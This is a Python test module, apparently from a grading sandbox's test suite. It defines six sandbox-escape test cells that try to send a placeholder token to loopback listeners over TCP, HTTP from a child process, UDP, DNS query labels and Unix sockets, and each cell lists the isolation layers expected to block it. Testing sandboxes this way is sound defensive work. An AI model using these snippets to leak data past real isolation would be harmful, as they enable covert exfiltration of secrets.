"""Attacks that talk to somebody: over the network, or to other programs of this machine."""

from tests.grading.attacks.record import Attack, layers

ATTACKS = (
    Attack(
        "tcp", "talking", "Connects to a service of the instructor's on the loopback interface.",
        layers("namespaces", "seccomp", "landlock"),
        cell="""
import socket

with socket.create_connection(("127.0.0.1", @TCP@), 3) as connection:
    connection.sendall(b"@TOKEN@")
""",
    ),
    Attack(
        "http-by-another-program", "talking", "Has a program of its own fetch a page over HTTP.",
        layers("namespaces", "seccomp", "landlock"),
        cell="""
import subprocess
import sys

fetch = "import urllib.request as u; u.urlopen('http://127.0.0.1:@TCP@/@TOKEN@', timeout=2)"
subprocess.run([sys.executable, "-c", fetch], capture_output=True, timeout=4)
""",
    ),
    Attack(
        "udp", "talking", "Sends a datagram, which no connection announces.",
        layers("namespaces", "seccomp"),
        cell="""
import socket

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@TOKEN@", ("127.0.0.1", @UDP@))
""",
    ),
    Attack(
        "dns", "talking", "Asks a name server for a name that carries a message.",
        layers("namespaces", "seccomp"),
        cell=r"""
import socket
import struct

labels = b"".join(bytes([len(part)]) + part for part in (b"@TOKEN@", b"invalid"))
query = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", @UDP@))
socket.getaddrinfo("@TOKEN@.invalid", 80)
""",
    ),
    Attack(
        "abstract-socket", "talking", "Connects to an abstract Unix socket, which is in no folder.",
        layers("namespaces", "seccomp", "landlock"),
        cell=r"""
import socket

connection = socket.socket(socket.AF_UNIX)
connection.connect("\0@ABSTRACT@")
connection.sendall(b"@TOKEN@")
""",
    ),
    Attack(
        "file-socket", "talking", "Connects to a Unix socket in the instructor's home.",
        layers("namespaces", "seccomp"),
        cell="""
import socket

connection = socket.socket(socket.AF_UNIX)
connection.connect("@SOCKET@")
connection.sendall(b"@TOKEN@")
""",
    ),
)  # fmt: skip
